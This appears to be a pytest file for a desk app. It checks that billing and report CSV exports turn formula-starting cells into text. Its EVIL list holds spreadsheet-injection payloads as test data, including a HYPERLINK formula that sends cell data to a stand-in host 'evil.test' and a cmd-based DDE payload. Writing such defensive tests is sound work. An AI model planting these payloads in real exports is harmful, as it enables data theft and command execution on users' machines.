"""Attack (issue 26): formulas in CSV cells. A payment reference, a partner's name, a
secretary's name that start a formula reach the accountant's spreadsheet as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from sqlalchemy import update

from desk.base.db import Database
from desk.base.plain_text import one_line
from desk.base.spreadsheet import FORMULA_STARTS, csv_text, safe_cell
from desk.billing.collection import record_payment
from desk.billing.invoices import issue_statements
from desk.models import Secretary
from tests.conftest import AuthActions
from tests.helpers.attacks import desk_cli
from tests.helpers.billing import NOW, october_of_calls
from tests.helpers.reports import Ring, make_call, paris
from tests.helpers.routing import demo_client, secretary
from tests.helpers.web import LOGINS

EVIL = [
    '=HYPERLINK("http://evil.test/?"&A1,"ref")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _no_formula(cells: list[str]) -> None:
    risky = [c for c in cells if c.startswith(FORMULA_STARTS) and not c.lstrip("-")[:1].isdigit()]
    assert risky == []


@pytest.mark.parametrize("evil", EVIL)
def test_a_cell_that_would_start_a_formula_is_kept_as_text(evil: str) -> None:
    [cell] = _cells(csv_text([[evil]]))
    assert cell == "'" + evil
    assert [safe_cell(v) for v in (-12, "-12.50", "12,5", None)] == [-12, "-12.50", "12,5", None]


def test_payment_references_and_partner_names_are_exported_as_text(
    demo: str, db: Database, tmp_path: Path
) -> None:
    with db.session() as session:
        october_of_calls(session)
        session.execute(update(Secretary).where(Secretary.name == "Inès").values(name=EVIL[3]))
    with db.session() as session:
        [issued] = issue_statements(session, "2026-10", NOW)
    with db.session() as session:
        for cents, reference in enumerate(EVIL, start=1):
            record_payment(session, issued.number, cents, NOW.date(), NOW, reference=reference)
    code, out, _ = desk_cli(db, tmp_path, "billing", "export", "payments", "--month", "2026-11")
    assert code == 0, out
    rows = list(csv.reader(io.StringIO(out), delimiter=";"))
    # Stored on one line (a tab or CR before "=" is gone), exported as text either way.
    assert [row[4] for row in rows[1:]] == ["'" + one_line(evil) for evil in EVIL]
    _no_formula(_cells(out, ";"))
    code, out, _ = desk_cli(db, tmp_path, "billing", "export", "payouts", "--month", "2026-10")
    assert code == 0, out
    assert out.splitlines()[1].split(";")[0] == "'" + EVIL[3]
    _no_formula(_cells(out, ";"))


def test_a_secretarys_name_in_the_reports_csv_is_text(
    db: Database, client: FlaskClient, auth: AuthActions, own: int
) -> None:
    with db.session() as s:
        parc = demo_client(s)
        claire = secretary(s, "Claire")
        claire.name = EVIL[0]
        make_call(
            s,
            parc,
            paris(2027, 3, 23, 12, 10),
            "answered",
            plan=[[claire]],
            rings=[Ring(claire, 0, 1, 9, 120, "accepted")],
        )
        s.commit()
    auth.login(LOGINS["admin"])
    response = client.get("/desk/reports/secretaries.csv?from=2027-03-22&to=2027-03-28")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert ["'" + EVIL[0]] == [row[0] for row in rows[1:] if "HYPERLINK" in row[0]]
    _no_formula(_cells(response.get_data(as_text=True)))
